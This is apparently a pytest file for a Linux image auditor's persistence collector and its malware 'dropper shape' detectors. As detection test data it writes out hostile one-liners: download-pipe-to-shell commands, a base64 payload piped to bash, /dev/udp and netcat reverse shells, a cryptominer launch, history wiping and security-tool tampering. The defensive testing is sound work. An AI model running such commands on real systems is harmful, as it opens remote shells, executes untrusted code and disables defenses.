"""The ``persistence`` collector and the dropper shapes: each place is read with its lines and
sources, caps make the facts incomplete, the shapes file is validated and its regexes stay
fast on hostile lines; the real Debian root and the clean example give no FAIL."""

from __future__ import annotations

import json
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from imageaudit.checks import MissingFact
from imageaudit.checks.persistence import (
    NoParams,
    PersistenceDataError,
    default_shapes,
    excerpt,
    kernel_module_boot,
    load_shapes,
    matching_shape,
)
from imageaudit.example import CLEAN
from imageaudit.facts import Facts, collect_facts
from imageaudit.facts.base import CollectContext
from imageaudit.facts.persistence import PersistenceFacts, collect
from imageaudit.model import Source, Status
from imageaudit.openers.directory import DirectoryFS
from tests.builders.debian import debian_root_dir  # noqa: F401 - pytest fixture
from tests.rules.harness import rules, run_rule
from tests.scenario import File, Scenario, Symlink, write_tree

RULES = (
    "malware_ld_preload", "malware_cron_dropper", "malware_systemd_dropper",
    "malware_rc_script_dropper", "malware_shell_profile_hijack",
    "malware_authorized_keys_backdoor", "malware_pam_backdoor", "malware_kernel_module_boot",
    "malware_setuid_helper",
)
PASSWD = "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"


def collect_tree(tree: Scenario, tmp_path: Path) -> tuple[PersistenceFacts, list[str]]:
    root = write_tree({"/etc/passwd": PASSWD, **tree}, tmp_path / "root")
    ctx = CollectContext(fs=DirectoryFS(root))
    ctx.current = "persistence"
    facts = collect(ctx)
    return facts, [f"{e.path}: {e.message}" for e in ctx.errors if e.incomplete]


def test_each_place_with_its_lines(tmp_path: Path) -> None:
    facts, incomplete = collect_tree(
        {
            "/etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
            "@reboot root /usr/bin/boot-task --now\nnot a cron line\n",
            "/var/spool/cron/crontabs/bob": File("# m h\n*/5 * * * * /home/bob/sync\n", uid=1000),
            "/var/spool/cron/atjobs/a00001": "#!/bin/sh\ncd /root || {\n exit 1\n}\n"
            "/tmp/x \\\n -q\n",
            "/var/spool/cron/atjobs/.SEQ": "3\n",
            "/etc/cron.daily/job": File("#!/bin/sh\n# comment\n\nrun-parts /x\n", mode=0o755),
            "/etc/ld.so.preload": "/lib/a.so:/lib/b.so # comment\n",
            "/etc/ld.so.conf": "include ld.so.conf.d/*.conf\n/opt/lib\n",
            "/etc/ld.so.conf.d/x.conf": "/usr/local/lib\n",
            "/lib/systemd/system/a.service": "[Service]\nExecStart=-/usr/bin/a --x\n"
            "Environment=\"LD_PRELOAD=/x.so\"\n",
            "/etc/systemd/system/a.service.d/o.conf": "[Service]\nExecStartPre=+/usr/bin/pre\n",
            "/etc/systemd/system/alias.service": Symlink("/lib/systemd/system/a.service"),
            "/etc/systemd/system/masked.service": Symlink("/dev/null"),
            "/home/bob/.bashrc": File("alias l=ls\n", uid=1000),
            "/home/bob/.config/systemd/user/u.service": "[Service]\nExecStart=/usr/bin/u\n",
            "/etc/init.d/svc": File("#!/bin/sh\necho start\n", mode=0o755),
            "/etc/rc2.d/S01svc": Symlink("../init.d/svc"),
            "/etc/pam.d/sshd": "auth [success=1 default=ignore] pam_unix.so nullok\n"
            "@include common-auth\nauth required /opt/pam_x.so\n",
            "/etc/pam.conf": "login auth required pam_deny.so\n",
            "/lib/x86_64-linux-gnu/security/pam_unix.so": b"\x7fELF",
            "/etc/modules": "# boot\nloop max_loop=8\n",
            "/etc/modprobe.d/x.conf": "install usb-storage /bin/true\nblacklist foo\n",
            "/lib/modules/6.1/kernel/a.ko": b"\x7fELF",
            "/opt/r.ko": b"\x7fELF",
            "/usr/share/vim/tutor.ko": "text\n",
        },
        tmp_path,
    )
    assert incomplete == []
    by = {(e.source.path, e.source.line): e for e in facts.entries}
    assert by[("/etc/crontab", 1)].kind == "env"
    job = by[("/etc/crontab", 2)]
    assert (job.kind, job.command, job.account) == ("job", "cd / && run-parts /etc/cron.hourly",
                                                     "root")
    assert by[("/etc/crontab", 3)].command == "/usr/bin/boot-task --now"
    assert by[("/etc/crontab", 4)].kind == "unparsed"
    bob = by[("/var/spool/cron/crontabs/bob", 2)]
    assert (bob.command, bob.account) == ("/home/bob/sync", "bob")
    at = by[("/var/spool/cron/atjobs/a00001", 5)]
    assert (at.mechanism, at.text) == ("at", "/tmp/x   -q")
    assert not any(e.source.path.endswith(".SEQ") for e in facts.entries)
    assert [e.source.line for e in facts.entries if e.source.path == "/etc/cron.daily/job"] == [4]
    assert [e.text for e in facts.entries if e.kind == "preload"] == ["/lib/a.so", "/lib/b.so"]
    assert [e.text for e in facts.entries if e.kind == "libdir"] == ["/opt/lib", "/usr/local/lib"]
    units = [(e.kind, e.command, e.unit) for e in facts.entries if e.mechanism == "systemd"]
    assert len(units) == 4  # the alias adds no second copy of a.service's lines
    assert set(units) == {
        ("ExecStart", "/usr/bin/a --x", "a.service"),
        ("Environment", None, "a.service"),
        ("ExecStartPre", "/usr/bin/pre", "a.service"),
        ("ExecStart", "/usr/bin/u", "u.service"),
    }
    assert by[("/home/bob/.bashrc", 1)].account == "bob"
    assert not any(e.source.path.startswith("/etc/rc2.d") for e in facts.entries)
    assert by[("/etc/init.d/svc", 2)].mechanism == "rc"
    pam = {(r.service, r.module, r.module_path, r.source.line) for r in facts.pam}
    assert pam == {
        ("sshd", "pam_unix.so", "/lib/x86_64-linux-gnu/security/pam_unix.so", 1),
        ("sshd", "/opt/pam_x.so", None, 3),
        ("login", "pam_deny.so", None, 1),
    }
    assert by[("/etc/modules", 2)].text == "loop"
    assert by[("/etc/modprobe.d/x.conf", 1)].command == "/bin/true"
    assert by[("/etc/modprobe.d/x.conf", 2)].command is None
    assert facts.kernel_objects == ("/lib/modules/6.1/kernel/a.ko", "/opt/r.ko")
    assert facts.kernel_objects_complete
    files = {f.path: f for f in facts.files}
    assert files["/var/spool/cron/crontabs/bob"].uid == 1000
    assert files["/etc/cron.daily/job"].mode == 0o755
    state = facts.path("/usr/local/lib")
    assert state is not None and not state.present


def test_caps_and_unreadable_files_make_the_facts_incomplete(tmp_path: Path) -> None:
    facts, incomplete = collect_tree(
        {
            "/etc/cron.d/big": "# x\n" * 300_000,
            "/etc/profile.d/long.sh": "echo " + "a" * 20_000 + "\n",
            "/etc/init.d/gone": Symlink("/nowhere/at/all"),
        },
        tmp_path,
    )
    assert any(i.startswith("/etc/cron.d/big: read only the first") for i in incomplete)
    assert any(i.startswith("/etc/profile.d/long.sh: line longer than") for i in incomplete)
    assert any(i.startswith("/etc/init.d/gone: cannot be read") for i in incomplete)
    cut = next(e for e in facts.entries if e.source.path == "/etc/profile.d/long.sh")
    assert cut.cut and len(cut.text) == 16_384


def test_a_cut_walk_leaves_only_the_kernel_objects_unknown(tmp_path: Path) -> None:
    root = write_tree({"/etc/passwd": PASSWD, "/etc/crontab": "* * * * * root true\n",
                       "/opt/a/b/c/r.ko": b"\x7fELF"}, tmp_path / "root")
    ctx = CollectContext(fs=DirectoryFS(root), walk_limit=3)
    ctx.current = "persistence"
    facts = collect(ctx)
    assert not facts.kernel_objects_complete
    assert not any(e.incomplete and e.collector == "persistence" for e in ctx.errors)
    assert any(e.source.path == "/etc/crontab" for e in facts.entries)
    rule = rules().get("malware_kernel_module_boot")
    assert rule is not None
    with pytest.raises(MissingFact, match="kernel objects"):
        kernel_module_boot(SimpleNamespace(persistence=facts, packages=None), NoParams(), rule)


def test_a_program_is_recorded_not_read(tmp_path: Path) -> None:
    facts, incomplete = collect_tree(
        {"/etc/cron.hourly/kworker": File(b"\x7fELF\x02\x01curl|sh\n", mode=0o755)}, tmp_path
    )
    assert incomplete == []
    assert [(f.path, f.binary) for f in facts.files] == [("/etc/cron.hourly/kworker", True)]
    assert facts.entries == ()


def test_shapes(tmp_path: Path) -> None:
    shapes = default_shapes()
    assert len({s.id for s in shapes}) == len(shapes) >= 10
    for text, expected in (
        ("curl -s http://x/a | sudo bash", "download_pipe_shell"),
        ("wget -O- http://x | /usr/bin/python3 -", "download_pipe_shell"),
        ('bash -c "$(wget -qO- http://x)"', "download_substitution"),
        ("curl -o /tmp/a http://x && chmod 755 /tmp/a", "download_chmod"),
        ("echo aGk= | base64 -d | sh", "decode_pipe_shell"),
        ("perl -e 'eval(decode_base64(\"aGk=\"))'", "decode_eval"),
        ("sh -i >& /dev/udp/192.0.2.1/53 0>&1", "reverse_shell_dev_tcp"),
        ("nc -l -p 4444 -e /bin/sh", "reverse_shell_netcat"),
        ("ncat 192.0.2.1 443 -c bash", "reverse_shell_netcat"),
        ("sleep 1; /var/tmp/kdevtmpfsi", "exec_from_temp"),
        ("/bin/sh /dev/shm/.r", "exec_from_temp"),
        ("cd /; exec /usr/share/.fonts/.x/run", "exec_from_hidden_dir"),
        ("insmod /root/rk.ko", "module_from_unusual_path"),
        ("nohup /usr/bin/xmrig -o stratum+tcp://pool:3333 -u w &", "cryptominer"),
        ("export HISTFILE=/dev/null", "history_disabled"),
        ("ln -sf /dev/null /root/.bash_history", "history_disabled"),
        ("chattr +ia /etc/cron.d/apache", "defense_tampering"),
        ("setenforce 0 2>/dev/null", "defense_tampering"),
    ):
        shape = matching_shape(text)
        assert shape is not None and shape.id == expected, text
    for clean in (
        "cd / && run-parts --report /etc/cron.daily",
        "mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix",
        '. "$HOME/.bashrc"',
        "curl -fsS https://example.org/health > /dev/null",
        "base64 -d < /etc/key.b64 > /run/key",
        "/usr/bin/rrsync -ro /srv/backup",
        "tar -C /tmp -xf x.tar",
        "python3 -m http.server --bind 127.0.0.1",
        "PATH=\"$HOME/.local/bin:$PATH\"",
        "cp /etc/init.d/functions.sh /tmp/functions.bak",
        "HISTSIZE=1000",
        "HISTFILESIZE=2000",
        "shopt -s histappend",
        "lsattr -d /etc",
        "server 0.debian.pool.ntp.org iburst",
    ):
        assert matching_shape(clean) is None, clean


@pytest.mark.parametrize(
    "bad, why",
    [
        ("'(a+)+b'", "repeated group"),
        ("'(a)\\1'", "back-reference"),
        ("'('", "missing"),
    ],
)
def test_shapes_file_refuses_unsafe_or_broken_regexes(tmp_path: Path, bad: str, why: str) -> None:
    path = tmp_path / "shapes.yaml"
    path.write_text(
        "version: 1\nshapes:\n  - id: x\n    description: d\n    severity: high\n"
        f"    reference: https://attack.mitre.org/\n    all: [{bad}]\n"
    )
    with pytest.raises(PersistenceDataError, match=why):
        load_shapes(path)
    path.write_text("version: 2\nshapes: []\n")
    with pytest.raises(PersistenceDataError):
        load_shapes(path)


def test_shapes_stay_fast_on_hostile_lines() -> None:
    """Lines of 16 KiB (the collector's cap) built to make a backtracking regex stall."""
    hostile = [
        "|" + "/" * 16_000,
        "curl " + "| " * 8_000,
        "python -c " + "-c " * 5_000,
        "nc " + "-x " * 5_000,
        "chmod " * 2_700,
        "; /" + "a/" * 8_000,
        "; /" + "./" * 8_000,
        "insmod " * 2_300,
        "$(" * 8_000,
        "printf " + "\\x" * 8_000,
        "printf " * 2_300,
        "nc " * 5_000,
        "python " * 2_300,
        "perl -e " * 2_000,
        "socat " * 2_700,
        "mkfifo " * 2_300,
        "exec /" * 2_700,
        "chattr " * 2_300,
        "ln -s /dev/null " * 1_000,
    ]
    start = time.perf_counter()
    for text in hostile:
        for shape in default_shapes():
            shape.matches(text[:16_384])
    # About 0.1 s here; a regex scanning the rest of the line at each occurrence takes 0.5 s
    # for one of these lines alone.
    assert time.perf_counter() - start < 0.5


def test_messages_mask_credentials_and_payloads() -> None:
    for text, shown in (
        ("curl -u admin:S3cret http://x/a | sh", "curl -u *** http://x/a | sh"),
        ("wget http://bob:hunter2@192.0.2.1/x -O- | sh", "wget http://***@192.0.2.1/x -O- | sh"),
        ('curl -H "Authorization: Bearer abc.def" http://x | bash',
         'curl -H "Authorization: ***" http://x | bash'),
        ("API_TOKEN=abcd123 /tmp/x", "API_TOKEN=*** /tmp/x"),
        ("echo c2ggLWkgPiYgL2Rldi90Y3AvMTAuMC4wLjEvNDQ0NCAwPiYx | base64 -d | bash",
         "echo c2ggLW… | base64 -d | bash"),
        ("mkdir -p /tmp/x", "mkdir -p /tmp/x"),
    ):
        assert excerpt(text) == shown
    assert excerpt("x" * 500).endswith("…") and len(excerpt("x y" * 200)) == 120


def test_facts_json_masks_the_credentials_the_checks_still_read(tmp_path: Path) -> None:
    # A token exported from a start-up file, a password in a cron download: the checks get the
    # line whole (the shapes need it), the facts written out never carry the secret.
    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
    root = write_tree({
        "/etc/passwd": PASSWD,
        "/root/.bashrc": f"export GITHUB_TOKEN={token}\nexport DB_PASSWORD=hunter2secret\n",
        "/etc/cron.d/fetch": "*/5 * * * * root curl -u bob:S3cretPw http://192.0.2.1/x | sh\n",
    }, tmp_path / "root")
    facts = facts_of(root)
    assert facts.persistence is not None
    assert any(token in e.text for e in facts.persistence.entries)
    written = json.dumps(facts.to_json())
    for secret in (token, "hunter2secret", "S3cretPw"):
        assert secret not in written
    assert "curl -u *** http://192.0.2.1/x | sh" in written
    assert "/etc/cron.d/fetch" in written
    dropper = [f for f in run_rule("malware_cron_dropper", facts) if f.status is Status.FAIL]
    assert dropper and all("S3cretPw" not in f.message for f in dropper)


def facts_of(root: Path) -> Facts:
    with DirectoryFS(root) as fs:
        return collect_facts(fs)


def test_clean_example_gives_no_fail(tmp_path: Path) -> None:
    facts = facts_of(write_tree(CLEAN, tmp_path / "root"))
    bad = [(r, f.message) for r in RULES for f in run_rule(r, facts)
           if f.status in (Status.FAIL, Status.ERROR)]
    assert bad == []


@pytest.mark.network
@pytest.mark.slow
def test_real_debian_root_gives_no_fail(debian_root_dir: Path) -> None:  # noqa: F811
    facts = facts_of(debian_root_dir)
    found = facts.persistence
    assert found is not None
    # What a Debian minbase root holds of each kind, read without a gap.
    mechanisms = {e.mechanism for e in found.entries}
    assert {"cron", "systemd", "rc", "profile", "pam", "ld_conf"} <= mechanisms
    assert Source("/etc/cron.d/e2scrub_all", 1) in {e.source for e in found.entries}
    assert any(r.module == "pam_unix.so" and r.module_path for r in found.pam)
    bad = [(r, f.message) for r in RULES for f in run_rule(r, facts)
           if f.status in (Status.FAIL, Status.ERROR)]
    assert bad == []
    judge = 0.0
    for rule in RULES:
        t0 = time.perf_counter()
        run_rule(rule, facts)
        judge += time.perf_counter() - t0
    collect_time = facts.timings["collect"]
    assert judge < 0.2 * collect_time, (judge, collect_time)
    print(f"persistence: collected in {facts.timings['collect.persistence']:.3f} s, "
          f"{len(found.entries)} lines; 9 rules judged in {judge:.4f} s of {collect_time:.3f} s")
